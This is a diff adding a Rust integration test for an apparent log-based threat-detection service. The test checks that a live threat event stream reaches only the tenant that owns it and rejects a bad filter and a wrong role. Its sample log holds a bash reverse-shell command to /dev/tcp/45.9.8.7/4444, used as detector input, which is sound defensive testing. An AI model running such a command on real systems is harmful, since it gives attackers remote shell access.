@@ -181,7 +181,74 @@ async fn two_replicas_score_each_log_exactly_once(b: Backend) {
     assert!(threats > 0);
 }
 
+/// Reads the SSE stream until a `threat` event arrives (or `wait` passes); returns its data.
+async fn next_threat_event(resp: &mut reqwest::Response, wait: Duration) -> Option<Value> {
+    let mut buf = String::new();
+    let deadline = Instant::now() + wait;
+    loop {
+        let left = deadline.checked_duration_since(Instant::now())?;
+        let chunk = tokio::time::timeout(left, resp.chunk())
+            .await
+            .ok()?
+            .ok()??;
+        buf.push_str(&String::from_utf8_lossy(&chunk));
+        while let Some(end) = buf.find("\n\n") {
+            let event: String = buf.drain(..end + 2).collect();
+            if event.lines().any(|l| l == "event: threat") {
+                let data = event.lines().find_map(|l| l.strip_prefix("data: "))?;
+                return serde_json::from_str(data).ok();
+            }
+        }
+    }
+}
+
+async fn threat_stream_is_live_and_tenant_scoped(b: Backend) {
+    let s = spawn(b, true).await.unwrap();
+    let (_, _, analyst_a, agent_a) = s.tenant("a").await;
+    let (_, _, analyst_b, _) = s.tenant("b").await;
+    let open = |key: String| {
+        let client = s.client.clone();
+        let url = s.url("/api/threats/stream");
+        async move {
+            let r = client.get(url).bearer_auth(key).send().await.unwrap();
+            assert_eq!(r.status(), 200);
+            assert_eq!(r.headers()["content-type"], "text/event-stream");
+            r
+        }
+    };
+    let mut stream_a = open(analyst_a.clone()).await;
+    let mut stream_b = open(analyst_b.clone()).await;
+    let a = s.agent(&agent_a, "web-1").await;
+    let attack = "type=EXECVE msg=audit(1760000000.123:4242): argc=3 a0=\"bash\" a1=\"-c\" a2=\"bash -i >& /dev/tcp/45.9.8.7/4444 0>&1\"";
+    let t0 = Instant::now();
+    let (st, _) = s
+        .post(
+            "/api/logs",
+            &agent_a,
+            json!([{"agent_id": a, "message": attack}]),
+        )
+        .await;
+    assert_eq!(st, 201);
+    let event = next_threat_event(&mut stream_a, Duration::from_secs(30))
+        .await
+        .expect("a threat event");
+    eprintln!("{b:?}: ingest -> SSE threat event in {:?}", t0.elapsed());
+    assert_eq!(event["agent_id"], a);
+    assert!(event["explanation"].is_object());
+    // Tenant b's stream stays silent.
+    assert!(
+        next_threat_event(&mut stream_b, Duration::from_millis(1500))
+            .await
+            .is_none()
+    );
+    // Bad filter and wrong role.
+    let (st, _) = s.get("/api/threats/stream?severity=huge", &analyst_a).await;
+    assert_eq!(st, 400);
+    assert_eq!(s.get("/api/threats/stream", &agent_a).await.0, 403);
+}
+
 both_backends!(
+    threat_stream_is_live_and_tenant_scoped,
     ingested_attacks_become_threats,
     restart_loads_the_stored_model,
     two_replicas_score_each_log_exactly_once,
